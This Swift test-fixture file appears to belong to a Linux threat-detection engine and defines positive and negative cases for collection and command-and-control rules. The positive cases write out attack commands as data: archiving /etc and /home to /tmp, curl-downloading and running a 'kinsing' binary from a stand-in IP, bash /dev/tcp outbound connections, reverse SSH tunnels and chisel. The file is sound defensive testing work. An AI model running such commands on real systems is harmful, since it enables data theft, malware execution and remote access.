import MamoriEvents

extension Fixtures {
    static let collectionAndC2: [RuleFixture] = [
        RuleFixture("sensitive-data-archived-to-temp",
            positives: [
                Case("tar czf /tmp/.d.tgz /etc /home", Actor(Proc.line("/usr/bin/tar", "tar czf /tmp/.d.tgz /etc /home"), in: Trees.rootLogin).exec()),
                Case("zip -r /dev/shm/w.zip /var/www", Actor(Proc.line("/usr/bin/zip", "zip -qr /dev/shm/w.zip /var/www", uid: 33), in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
                Case("mysqldump > /tmp/all.sql", Actor(Proc.shell("mysqldump --all-databases > /tmp/all.sql"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("extracting into /tmp", Actor(Proc.line("/usr/bin/tar", "tar xzf /home/alice/app.tgz -C /tmp/app"), in: Trees.rootLogin).exec()),
                Case("backup unit archives /etc", Actor(Proc.line("/usr/bin/tar", "tar czf /tmp/etc-snapshot.tgz /etc"), in: Trees.unit("backup.service", Proc("/usr/bin/bash", ["/bin/bash", "/usr/local/sbin/backup.sh"]))).exec()),
                Case("pg_dump into the backup volume", Actor(Proc.line("/usr/bin/pg_dump", "pg_dump -Fc -f /backup/app.dump app", uid: 115), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("download-chmod-execute-binary",
            positives: [
                Case("curl -o /tmp/kinsing; chmod +x; run", [
                    Actor(Proc.line("/usr/bin/curl", "curl -s -o /tmp/kinsing http://203.0.113.7/kinsing", uid: 33), in: Trees.webShell).file(.create, "/tmp/kinsing", at: 100),
                    Actor(Proc.line("/usr/bin/chmod", "chmod +x /tmp/kinsing", uid: 33), in: Trees.webShell).file(.chmod, "/tmp/kinsing", mode: 0o755, at: 101),
                    Actor(Proc("/tmp/kinsing", ["/tmp/kinsing"], uid: 33), in: Trees.webShell).exec(at: 102, stdin: .fifo, stdout: .fifo),
                ]),
            ],
            negatives: [
                Case("download and chmod, then something else runs", [
                    Actor(Proc.line("/usr/bin/wget", "wget -O /tmp/tool http://203.0.113.7/tool"), in: Trees.rootLogin).file(.create, "/tmp/tool", at: 100),
                    Actor(Proc.line("/usr/bin/chmod", "chmod 755 /tmp/tool"), in: Trees.rootLogin).file(.chmod, "/tmp/tool", mode: 0o755, at: 101),
                    Actor(Proc("/tmp/other", ["/tmp/other"]), in: Trees.rootLogin).exec(at: 102),
                ]),
                Case("download run without chmod (not executable)", [
                    Actor(Proc.line("/usr/bin/curl", "curl -o /tmp/data.bin https://example.org/data.bin"), in: Trees.rootLogin).file(.create, "/tmp/data.bin", at: 100),
                    Actor(Proc("/tmp/data.bin", ["/tmp/data.bin"]), in: Trees.rootLogin).exec(at: 102),
                ]),
            ]),

        RuleFixture("download-chmod-execute-script",
            positives: [
                Case("wget install.sh; chmod +x; run", [
                    Actor(Proc.line("/usr/bin/wget", "wget -O /tmp/install.sh http://203.0.113.7/install.sh"), in: Trees.rootLogin).file(.create, "/tmp/install.sh", at: 100),
                    Actor(Proc.line("/usr/bin/chmod", "chmod +x /tmp/install.sh"), in: Trees.rootLogin).file(.chmod, "/tmp/install.sh", mode: 0o755, at: 101),
                    Actor(Proc("/usr/bin/bash", ["/bin/bash", "/tmp/install.sh"]), in: Trees.rootLogin).exec(at: 102),
                ]),
            ],
            negatives: [
                Case("script downloaded into the home directory", [
                    Actor(Proc.line("/usr/bin/curl", "curl -o /home/alice/install.sh https://example.org/install.sh", uid: 1000), in: Trees.userLogin).file(.create, "/home/alice/install.sh", at: 100),
                    Actor(Proc.line("/usr/bin/chmod", "chmod +x install.sh", uid: 1000), in: Trees.userLogin).file(.chmod, "/home/alice/install.sh", mode: 0o755, at: 101),
                    Actor(Proc("/usr/bin/bash", ["/bin/bash", "/home/alice/install.sh"], uid: 1000), in: Trees.userLogin).exec(at: 102),
                ]),
            ]),

        RuleFixture("network-listener-or-relay",
            positives: [
                Case("socat port relay", Actor(Proc.line("/usr/bin/socat", "socat TCP-LISTEN:8443,fork TCP:10.0.0.9:443"), in: Trees.rootLogin).exec()),
                Case("nc -lvnp", Actor(Proc.line("/usr/bin/nc.openbsd", "nc -lvnp 4444"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("socat to a unix socket", Actor(Proc.line("/usr/bin/socat", "socat - UNIX-CONNECT:/run/haproxy/admin.sock"), in: Trees.rootLogin).exec()),
                Case("nc port probe", Actor(Proc.line("/usr/bin/nc.openbsd", "nc -zv 10.0.0.5 22"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("service-child-connects-to-internet",
            positives: [
                Case("curl spawned by PHP-FPM fetches a payload", Actor(Proc.line("/usr/bin/curl", "curl -s http://203.0.113.7/x", uid: 33), in: Trees.webShell).connect("203.0.113.7", 80)),
                Case("perl under PostgreSQL connects out", Actor(Proc("/usr/bin/perl", ["perl", "/tmp/p.pl"], uid: 115), in: Trees.postgres.spawning(Proc.shell("perl /tmp/p.pl", uid: 115))).connect("198.51.100.9", 4444)),
            ],
            negatives: [
                Case("the PHP application calls an API", Actor(Trees.phpFpm.ancestors[0], in: Tree(Array(Trees.phpFpm.ancestors.dropFirst()))).connect("203.0.113.50", 443)),
                Case("curl from the web shell to an internal host", Actor(Proc.line("/usr/bin/curl", "curl -s http://10.0.0.8/health", uid: 33), in: Trees.webShell).connect("10.0.0.8", 80)),
                Case("curl resolves a name through a public resolver", Actor(Proc.line("/usr/bin/curl", "curl -s https://api.example.com/hook", uid: 33), in: Trees.webShell).connect("8.8.8.8", 53, proto: 17)),
            ]),

        RuleFixture("shell-outbound-connection",
            positives: [
                Case("bash /dev/tcp to the internet", rootShell.connect("203.0.113.7", 4444)),
                Case("dash /dev/tcp to an IPv6 host", Actor(Proc.shell("exec 3<>/dev/tcp/2001:db8::7/443"), in: Trees.rootLogin).connect("2001:db8::7", 443)),
            ],
            negatives: [
                Case("bash probes a local port", rootShell.connect("127.0.0.1", 5432)),
                Case("resolver traffic attributed to the shell", rootShell.connect("10.0.0.2", 53, proto: 17)),
            ]),

        RuleFixture("ssh-tunnel-established",
            positives: [
                Case("ssh -fNR", Actor(Proc.line("/usr/bin/ssh", "ssh -fNR 8080:localhost:80 tunnel@203.0.113.7"), in: Trees.rootLogin).exec()),
                Case("ssh -D SOCKS", Actor(Proc.line("/usr/bin/ssh", "ssh -N -D 1080 user@203.0.113.7"), in: Trees.rootLogin).exec()),
                Case("ssh -N -L", Actor(Proc.line("/usr/bin/ssh", "ssh -N -L 5432:db.internal:5432 bastion"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("local forward with a command", Actor(Proc.line("/usr/bin/ssh", "ssh -L 5432:db.internal:5432 bastion"), in: Trees.rootLogin).exec()),
                Case("remote command", Actor(Proc.line("/usr/bin/ssh", "ssh -v root@10.0.0.5 uptime"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("tunneling-tool-executed",
            positives: [
                Case("chisel client", Actor(Proc.line("/tmp/chisel", "/tmp/chisel client 203.0.113.7:443 R:socks", uid: 33), in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
                Case("ngrok tcp", Actor(Proc.line("/usr/local/bin/ngrok", "ngrok tcp 22"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("ngrok run as a managed service", Actor(Proc.line("/usr/local/bin/ngrok", "ngrok start --all --config /etc/ngrok.yml", unit: "ngrok.service"), in: Tree([Trees.systemd])).exec(stdin: .closed)),
                Case("a tool named like a chisel script", Actor(Proc.line("/usr/bin/python3.12", "python3 chiseled_images.py --out /srv/img"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("http-client-scripted-user-agent",
            positives: [
                Case("curl with sqlmap's agent", Actor(Proc.line("/usr/bin/curl", "curl -s -A sqlmap/1.7 http://203.0.113.7/p"), in: Trees.rootLogin).exec()),
                Case("wget pretending to be python-requests", Actor(Proc.line("/usr/bin/wget", "wget -q -U python-requests/2.31 -O /tmp/a http://203.0.113.7/a"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("curl with a product user agent", Actor(Proc.line("/usr/bin/curl", "curl -sS -A acme-healthcheck/2.1 https://status.example.com/"), in: Trees.rootLogin).exec()),
                Case("curl without a user agent", Actor(Proc.line("/usr/bin/curl", "curl -sSfL https://example.org/install.txt -o /root/install.txt"), in: Trees.rootLogin).exec()),
            ]),
    ]
}
